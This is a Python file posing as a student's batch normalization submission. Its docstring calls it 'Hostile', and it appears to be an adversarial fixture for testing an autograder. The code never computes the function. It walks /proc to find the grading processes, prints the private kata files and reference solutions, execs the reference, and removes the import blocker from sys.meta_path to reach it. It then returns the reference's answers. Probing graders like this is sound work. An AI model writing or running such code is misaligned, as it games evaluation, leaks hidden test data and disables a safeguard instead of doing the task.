"""Hostile: reads instructor data.  Prints the private kata YAML (hidden cases included),
execs the reference solution next to --katas-dir, and removes the import blocker from
sys.meta_path to import the reference; returns the reference's values when it got them.
"""

import json
import os
import signal
import sys

import numpy as np


def _argv(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            return int(f.read().rsplit(b")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def graders():
    """The grading processes above this one, found through /proc as an attacker would."""
    found, pid, seen = [], os.getppid(), set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        argv = _argv(pid)
        if any(a.endswith(("/grade", "run_autograder", "grade_driver.py")) for a in argv[:3]):
            found.append((pid, argv))
        pid = _ppid(pid)
    return found


def family():
    """Every process under the topmost grader: the grader, its servers, classmates' workers."""
    top = graders()
    if not top:
        return []
    children = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            children.setdefault(_ppid(int(name)), []).append(int(name))
    out, stack = [], [top[-1][0]]
    while stack:
        pid = stack.pop()
        out.append(pid)
        stack.extend(children.get(pid, []))
    return [p for p in out if p != os.getpid()]


def option(*names):
    """Values of the grader's command-line options ``names``."""
    values = []
    for _, argv in graders():
        for i, a in enumerate(argv[:-1]):
            if a in names:
                values.append(argv[i + 1])
    return values


def write(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        return True
    except OSError:
        return False


def _katas_dirs():
    return option("--katas-dir")


def _leak():
    for folder in _katas_dirs():
        for root in (folder, os.path.join(os.path.dirname(folder), "solutions")):
            for name in (sorted(os.listdir(root)) if os.path.isdir(root) else []):
                try:
                    with open(os.path.join(root, name)) as f:
                        text = f.read()
                except OSError:
                    continue
                print(text)
                sys.stderr.write(text)


def _reference():
    for folder in _katas_dirs():
        path = os.path.join(os.path.dirname(folder), "solutions", "batchnorm_bchw.py")
        try:
            with open(path) as f:
                space = {}
                exec(compile(f.read(), path, "exec"), space)
            return space["batch_normalization"]
        except Exception:
            pass
    sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
    for folder in _katas_dirs():
        sys.path.insert(0, os.path.join(os.path.dirname(folder), "solutions"))
    try:
        import batchnorm_bchw

        return batchnorm_bchw.batch_normalization
    except Exception:
        return None


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    _leak()
    ref = _reference()
    if ref is not None:
        return ref(X, gamma, beta, epsilon)
    return np.zeros_like(X)
